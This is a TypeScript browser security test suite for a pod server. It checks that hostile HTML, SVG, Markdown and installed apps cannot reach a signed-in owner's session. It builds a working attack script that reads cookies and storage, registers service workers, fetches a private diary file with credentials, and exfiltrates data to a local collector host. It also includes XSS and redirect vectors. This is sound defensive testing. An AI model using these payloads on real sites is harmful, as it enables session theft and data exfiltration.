import assert from "node:assert/strict";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { after, before, describe, it } from "node:test";
import type { Browser, Frame, Page } from "playwright-core";
import { packApp } from "../support/app-zip.ts";
import { type HomeClient, openHomeClient } from "../support/home-client.ts";
import { openBrowser, skipWithoutChromium } from "../support/open-browser.ts";
import { startPodServer, type TestServer } from "../support/start-pod-server.ts";
import { openVisitor, signInAs, type Visitor } from "../support/visitor.ts";

const SECRET = "what only Alice may know";

/** Tries everything that content could do to whoever looks at it, and writes down what came of it. */
const attack = (collector: string, base: string): string => `
const collector = ${JSON.stringify(collector)}, base = ${JSON.stringify(base)};
const results = {};
const attempt = async (name, act) => {
  try { results[name] = String(await act()).slice(0, 400); } catch (error) { results[name] = "refused: " + error.name; }
};
const ask = async (path, init) => { const r = await fetch(base + path, init); return r.status + " " + (await r.text()).slice(0, 300); };
(async () => {
  await attempt("cookie", () => document.cookie || "none");
  await attempt("localStorage", () => localStorage.length);
  await attempt("indexedDB", () => new Promise((resolve, reject) => {
    const opening = indexedDB.open("x"); opening.onsuccess = () => resolve("opened"); opening.onerror = () => reject(opening.error); }));
  await attempt("caches", async () => (await caches.keys()).length);
  await attempt("serviceWorker", async () => { await navigator.serviceWorker.register(base + "alice/public/worker.js", { scope: "/" }); return "registered"; });
  await attempt("account", () => ask(".account/", { credentials: "include", headers: { accept: "text/html" } }));
  await attempt("account plain", () => ask(".account/apps/", { credentials: "same-origin" }));
  await attempt("session", () => ask(".account/home/session", { method: "POST", credentials: "include", body: JSON.stringify({ jkt: "a".repeat(43) }) }));
  await attempt("apps", () => ask(".account/home/apps/", { credentials: "include" }));
  await attempt("secret", () => ask("alice/diary/secret.txt", { credentials: "include" }));
  await attempt("write", () => ask("alice/diary/owned.txt", { method: "PUT", credentials: "include", headers: { "content-type": "text/plain" }, body: "owned" }));
  await attempt("frame home", () => new Promise((resolve) => {
    const frame = document.createElement("iframe"); frame.src = base; frame.onload = () => {
      try { resolve(frame.contentDocument ? "read: " + frame.contentDocument.body.innerHTML.length : "closed"); } catch (error) { resolve("closed"); } };
    setTimeout(() => resolve("closed"), 700); (document.body || document.documentElement).append(frame); }));
  await attempt("parent", () => parent === window ? "none" : parent.document.body.innerHTML);
  await attempt("top", () => { if (top === window) return "none"; top.location.href = collector + "/top"; return "set"; });
  await attempt("popup", () => { const opened = window.open(collector + "/popup"); return opened ? "opened" : "refused"; });
  await attempt("fetch", () => fetch(collector + "/fetch?d=" + document.title, { mode: "no-cors" }).then(() => "sent"));
  await attempt("beacon", () => navigator.sendBeacon(collector + "/beacon", "x"));
  await attempt("socket", () => new Promise((resolve, reject) => { const s = new WebSocket(collector.replace("http", "ws") + "/socket"); s.onopen = () => resolve("opened"); s.onerror = () => reject(new Error("socket")); }));
  await attempt("events", () => new Promise((resolve, reject) => { const s = new EventSource(collector + "/events"); s.onopen = () => resolve("opened"); s.onerror = () => { s.close(); reject(new Error("events")); }; }));
  await attempt("worker", () => new Promise((resolve, reject) => {
    const w = new Worker(URL.createObjectURL(new Blob(["fetch(" + JSON.stringify(collector + "/worker") + ",{mode:'no-cors'}).then(()=>postMessage('sent'),()=>postMessage('refused'))"])));
    w.onmessage = ({ data }) => resolve(data); w.onerror = () => reject(new Error("worker")); setTimeout(() => resolve("silent"), 1500); }));
  const make = (name, attributes) => { const element = document.createElementNS("http://www.w3.org/1999/xhtml", name); for (const [key, value] of Object.entries(attributes)) element.setAttribute(key, value); (document.body || document.documentElement).append(element); return element; };
  make("img", { src: collector + "/img" });
  make("script", { src: collector + "/script" });
  make("link", { rel: "stylesheet", href: collector + "/css" });
  make("link", { rel: "prefetch", href: collector + "/prefetch" });
  make("link", { rel: "prerender", href: collector + "/prerender" });
  make("video", { src: collector + "/video", autoplay: "" });
  make("object", { data: collector + "/object" });
  make("embed", { src: collector + "/embed" });
  make("iframe", { src: collector + "/iframe" });
  make("style", {}).textContent = "@font-face { font-family: x; src: url(" + collector + "/font) } body { font-family: x; background: url(" + collector + "/background) }";
  make("a", { href: "#x", ping: collector + "/ping" }).click();
  make("a", { href: collector + "/blank", target: "_blank" }).click();
  const form = make("form", { action: collector + "/form", method: "post", target: "_blank" });
  await attempt("form", () => { form.submit(); return "sent"; });
  await new Promise((resolve) => setTimeout(resolve, 600));
  report(results);
})();`;

describe("hostile content", { skip: skipWithoutChromium }, () => {
  let pods: TestServer;
  let browser: Browser;
  let alice: Visitor;
  let home: HomeClient;
  let collector: Server;
  let address: string;
  const received: { readonly url: string; readonly headers: string }[] = [];

  before(async () => {
    collector = createServer((request, response) => {
      received.push({ url: request.url ?? "", headers: JSON.stringify(request.headers) });
      response
        .writeHead(200, { "access-control-allow-origin": "*", "content-type": "text/plain" })
        .end("thanks");
    });
    collector.on("upgrade", (request, socket) => {
      received.push({ url: request.url ?? "", headers: "" });
      socket.destroy();
    });
    await new Promise<void>((resolve) => collector.listen(0, "127.0.0.1", resolve));
    address = `http://127.0.0.1:${(collector.address() as AddressInfo).port}`;
    pods = await startPodServer();
    home = await openHomeClient(pods, "alice");
    browser = await openBrowser();
    alice = await openVisitor(browser);
    await put("diary/secret.txt", "text/plain", SECRET);
    await put("public/worker.js", "text/javascript", "onfetch = () => {}");
    await signInAs(alice.page, pods.server.url, "alice@example.org", "the long password of alice");
  });
  after(async () => {
    await browser?.close();
    await pods?.[Symbol.asyncDispose]();
    collector?.close();
  });

  async function put(path: string, type: string, body: string): Promise<void> {
    const answer = await pods.alice.fetch(pods.root + path, {
      method: "PUT",
      headers: { "content-type": type },
      body,
    });
    assert.ok(answer.ok, `${path}: ${answer.status}`);
  }

  /** What the content has written down. */
  async function resultsOf(place: Page | Frame): Promise<Record<string, string>> {
    const found = place.locator("[data-results]");
    await found.waitFor({ state: "attached", timeout: 20_000 });
    return JSON.parse((await found.getAttribute("data-results")) ?? "");
  }

  function assertPowerless(results: Record<string, string>): void {
    for (const name of ["localStorage", "indexedDB", "caches", "serviceWorker"])
      assert.match(results[name] ?? "", /^refused/, `${name}: ${results[name]}`);
    assert.match(results.cookie ?? "", /^(none|refused)/);
    for (const name of ["account", "account plain", "session", "apps", "secret", "write"]) {
      assert.match(
        results[name] ?? "",
        /^(refused|40[134] |200 <!doctype html>)/,
        `${name}: ${results[name]}`,
      );
      assert.doesNotMatch(results[name] ?? "", /signed-in|"token"|Sign out|Shut this app out|"apps"/, name);
    }
    for (const name of ["frame home", "parent"])
      assert.match(results[name] ?? "", /^(closed|none|refused)/, name);
    assert.ok(!JSON.stringify(results).includes(SECRET));
  }

  async function assertNothingTaken(): Promise<void> {
    assert.equal((await pods.alice.fetch(`${pods.root}diary/owned.txt`)).status, 404);
    const workers = await alice.page.evaluate<readonly string[]>(`(async () => {
      for (;;) {
        const all = (await navigator.serviceWorker?.getRegistrations()) ?? [];
        const scripts = all.map(({ active, waiting, installing }) => (active ?? waiting ?? installing)?.scriptURL);
        // One that begins to be registered has no script yet.
        if (!scripts.includes(undefined)) return scripts;
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
    })()`);
    const foreign = workers.filter((script) => !script.endsWith("/.home/service-worker.js"));
    assert.deepEqual(foreign, []);
    for (const { url, headers } of received)
      assert.doesNotMatch(url + headers, /webizen-session|authorization|dpop|what only Alice/i);
  }

  const report =
    "const report = (results) => { document.documentElement.dataset.results = JSON.stringify(results); };";

  it("an HTML file of a pod has no part in its owner's session, though she looks at it on the same server", async () => {
    const script = attack(address, pods.server.url).replaceAll("</", "<\\/");
    await put(
      "public/page.html",
      "text/html",
      `<!doctype html><title>x</title><body><script>${report}${script}</script>`,
    );
    const page = await alice.context.newPage();
    await page.goto(`${pods.root}public/page.html`);
    assertPowerless(await resultsOf(page).catch(async (error) => assert.fail(`${error} at ${page.url()}`)));
    await page.close();
    await alice.page.goto(pods.server.url);
    await assertNothingTaken();
  });

  it("nor has an SVG picture", async () => {
    const script = attack(address, pods.server.url);
    const svg = `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[${report}${script}]]></script></svg>`;
    await put("public/picture.svg", "image/svg+xml", svg);
    const page = await alice.context.newPage();
    await page.goto(`${pods.root}public/picture.svg`);
    assertPowerless(await resultsOf(page));
    await page.close();
    await assertNothingTaken();
  });

  it("an HTML, SVG or Markdown file that home shows runs nothing and loads nothing", async () => {
    const { page } = alice;
    received.length = 0;
    const harm = `<script>window.harmed = 1</script><img src="${address}/md-img" onerror="window.harmed = 1"><a href="javascript:window.harmed=1">link</a><iframe src="${address}/md-frame"></iframe><svg onload="window.harmed=1"></svg>`;
    await put(
      "public/note.md",
      "text/markdown",
      `# Title\n\n${harm}\n\n![picture](${address}/md-picture)\n\n[link](javascript:window.harmed=1)`,
    );
    await put("public/shown.html", "text/html", `<!doctype html><h1>Title</h1>${harm}`);
    await put(
      "public/shown.svg",
      "image/svg+xml",
      `<svg xmlns="http://www.w3.org/2000/svg" onload="window.harmed=1"><script>window.harmed=1</script><image href="${address}/svg-image"/></svg>`,
    );
    for (const file of ["note.md", "shown.html", "shown.svg"]) {
      await page.goto(`${pods.server.url}#/browse/alice/public/${file}`);
      await page.getByText(file).first().waitFor();
      await page.waitForLoadState("networkidle");
      for (const frame of page.frames()) assert.equal(await frame.evaluate("window.harmed"), undefined, file);
      for (const link of await page.locator("a").all())
        assert.doesNotMatch((await link.getAttribute("href")) ?? "", /^javascript:/i, file);
    }
    assert.deepEqual(
      received.map(({ url }) => url),
      [],
    );
  });

  it("a picture that is opened by itself runs no script of a pod, though it has the origin of home", async () => {
    const { page, context } = alice;
    await put(
      "public/harm.js",
      "text/javascript",
      "document.documentElement.setAttribute('data-harmed', origin)",
    );
    const script = `<script href="${pods.root}public/harm.js"/>`;
    await put(
      "public/harm.svg",
      "image/svg+xml",
      `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${script}</svg>`,
    );
    await put("public/harm.md", "text/markdown", "![harm](harm.svg)");
    await page.goto(`${pods.server.url}#/browse/alice/public/harm.md`);
    const address = await page.locator("pod-picture img").getAttribute("src");
    assert.match(address ?? "", /^blob:/);
    const opening = context.waitForEvent("page");
    await page.evaluate(`window.open(${JSON.stringify(address)}) && undefined`);
    const opened = await opening;
    const complaint = opened.waitForEvent("console", (message) => /script-src|harm\.js/.test(message.text()));
    await opened.reload();
    await complaint;
    assert.equal(await opened.evaluate("document.documentElement.getAttribute('data-harmed')"), null);
    await opened.close();
  });

  it("an installed app works with the pod through the page around it", async () => {
    const app = `import { connect } from "/sdk/webizen.js";
      const pod = await connect();
      const put = await pod.session.fetch("apps/good/a.txt", { method: "PUT", headers: { "content-type": "text/plain" }, body: "kept" });
      const got = await pod.session.fetch("apps/good/a.txt");
      const text = await got.text();
      const refused = await pod.session.fetch("diary/secret.txt");
      const outside = [];
      for (const url of ["${pods.server.url}.account/", "${pods.server.url}bob/", "${pods.server.url}alice/../.account/home/session", "${address}/x", "${pods.server.url}", "javascript:1"])
        outside.push(await pod.session.fetch(url).then((r) => "answered " + r.status, (e) => e.name));
      const aborted = await pod.session.fetch("", { signal: AbortSignal.abort() }).catch((e) => e.name);
      document.documentElement.dataset.results = JSON.stringify({ kind: pod.session.kind, webId: pod.session.webId, put: put.status, text, url: got.url, refused: refused.status, outside, aborted });`;
    const page = `<!doctype html><title>Good app</title><link rel="stylesheet" href="look.css"><h1>Good</h1><script type="module" src="app.js"></script>`;
    received.length = 0;
    const id = await home.install(
      packApp({
        name: "Good",
        files: { "index.html": page, "app.js": app, "look.css": "h1 { color: rgb(1, 2, 3); }" },
      }),
    );
    const frame = await openApp(id);
    const results = await resultsOf(frame);
    assert.deepEqual(results, {
      kind: "sandbox",
      webId: `${pods.root}profile/card#me`,
      put: 201,
      text: "kept",
      url: `${pods.root}apps/good/a.txt`,
      refused: 403,
      outside: Array(6).fill("TypeError"),
      aborted: "AbortError",
    });
    assert.equal(
      await frame.evaluate("getComputedStyle(document.querySelector('h1')).color"),
      "rgb(1, 2, 3)",
    );
    assert.equal(await frame.evaluate("window.origin"), "null");
    assert.equal(await alice.page.title(), "Good app · Webizen");
    assert.deepEqual(received, []);
  });

  it("and one that means harm gets at nothing else, and sends nothing anywhere", async () => {
    received.length = 0;
    const script = `${report}${attack(address, pods.server.url)}`;
    const files = {
      "index.html": `<!doctype html><title>Evil</title><body><script src="evil.js"></script>`,
      "evil.js": script,
    };
    const id = await home.install(packApp({ name: "Evil", files }));
    const results = await resultsOf(await openApp(id));
    assertPowerless(results);
    for (const name of ["fetch", "socket", "events", "popup", "top", "parent"])
      assert.match(results[name] ?? "", /^refused/, `${name}: ${results[name]}`);
    assert.match(results.worker ?? "", /^(refused|silent)/);
    assert.match(alice.page.url(), /#\/open\/alice\//);
    await assertNothingTaken();
    assert.deepEqual(
      received.map(({ url }) => url),
      [],
    );
  });

  it("nor does it by leaving its frame, for another site or for a page of a pod", async () => {
    received.length = 0;
    await put(
      "public/relay.html",
      "text/html",
      `<!doctype html><script>new Image().src = "${address}/relay?" + location.hash.slice(1)</script>`,
    );
    for (const target of [
      `${address}/away?secret`,
      `${pods.root}public/relay.html#secret`,
      `data:text/html,<img src="${address}/data">`,
      `0;url=${address}/meta?secret`,
      `download ${address}/download?secret`,
    ]) {
      const files = {
        "index.html": target.startsWith("0;")
          ? `<!doctype html><meta http-equiv="refresh" content="${target}">`
          : target.startsWith("download ")
            ? `<!doctype html><a download="x" href="${target.slice(9)}">x</a><script>document.querySelector("a").click()</script>`
            : `<!doctype html><script>location.href = ${JSON.stringify(target)}</script>`,
      };
      const id = await home.install(packApp({ name: "Leaving", files }));
      await alice.page.goto("about:blank");
      const blocked = alice.page.waitForEvent("console", (message) =>
        /frame-src|Refused to|violates/.test(message.text()),
      );
      await alice.page.goto(`${pods.server.url}#/open/alice/${id}`);
      await blocked;
      assert.ok(
        !alice.page
          .frames()
          .some((frame) => frame.url().includes("relay.html") || frame.url().startsWith(address)),
      );
    }
    assert.deepEqual(
      received.map(({ url }) => url),
      [],
    );
  });

  async function openApp(id: string): Promise<Frame> {
    const { page } = alice;
    await page.goto("about:blank");
    await page.goto(`${pods.server.url}#/open/alice/${id}`);
    const handle = await page.locator("iframe").elementHandle();
    const frame = await handle?.contentFrame();
    return frame ?? assert.fail("no frame");
  }
});
